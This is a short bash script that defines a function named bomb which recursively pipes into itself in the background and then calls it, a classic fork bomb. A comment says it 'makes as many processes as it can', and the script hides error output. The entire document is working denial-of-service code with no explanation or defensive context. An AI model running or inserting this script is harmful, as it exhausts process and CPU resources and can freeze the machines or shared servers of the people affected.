# Makes as many processes as it can.
bomb() {
    bomb | bomb &
}
bomb 2>/dev/null
